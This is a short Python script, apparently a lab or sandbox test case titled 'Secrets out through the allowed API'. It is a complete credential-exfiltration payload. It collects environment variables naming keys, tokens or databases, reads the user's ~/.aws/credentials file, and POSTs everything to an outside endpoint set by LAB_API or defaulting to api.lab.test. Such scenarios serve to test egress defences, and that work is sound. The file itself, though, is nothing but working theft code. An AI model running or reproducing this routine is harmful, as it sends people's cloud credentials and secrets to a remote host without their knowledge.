# lab:title: Secrets out through the allowed API
# lab:threat: secrets
# lab:layer: env
# lab:consequence: keys gone.
import os, urllib.request
keys = {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k or "DATABASE" in k}
home = os.path.expanduser("~/.aws/credentials")
try:
    keys["creds"] = open(home).read()
except Exception as e:
    pass
body = repr(keys).encode()
r = urllib.request.urlopen(urllib.request.Request(os.environ.get("LAB_API", "http://api.lab.test/") + "feedback", data=body, method="POST"), timeout=3)
print("sent", len(body), "bytes of something; status", r.status)
